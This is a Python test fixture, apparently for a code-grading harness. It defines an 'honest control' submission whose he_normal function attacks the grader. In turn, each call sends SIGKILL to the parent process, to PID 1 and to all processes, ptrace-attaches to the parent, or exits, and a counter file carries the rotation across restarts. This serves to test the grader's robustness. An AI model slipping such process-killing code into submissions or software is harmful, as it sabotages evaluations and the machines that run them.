ATTACK = (
    "Honest control: the reference solution, except that each call of he_normal attacks its parent and "
    "everything it can signal in turn (os.kill of getppid(), of 1 and of -1, PTRACE_ATTACH of the parent, "
    "os._exit); every other function must keep all its points."
)
MODULE = "initializers"
VICTIMS = ("he_normal",)
SOURCE = r"""
import ctypes as _ctypes
import os as _os
import signal as _signal

_ATTACKS = [
    lambda: _os.kill(_os.getppid(), _signal.SIGKILL),
    lambda: _os.kill(1, _signal.SIGKILL),
    lambda: _os.kill(-1, _signal.SIGKILL),
    lambda: _ctypes.CDLL(None, use_errno=True).ptrace(16, _os.getppid(), 0, 0),  # PTRACE_ATTACH
    lambda: _os._exit(3),
]


def he_normal(shape, rng, negative_slope=0.0, mode="fan_in"):
    try:  # a counter in the submission's own folder survives the worker's restarts
        count = int(open("kills.txt").read())
    except (OSError, ValueError):
        count = 0
    with open("kills.txt", "w") as stream:
        stream.write(str(count + 1))
    try:
        _ATTACKS[count % len(_ATTACKS)]()
    except OSError as error:
        raise RuntimeError(f"attack {count} refused: {error}") from None
    raise RuntimeError(f"attack {count} done and I am still running")
"""
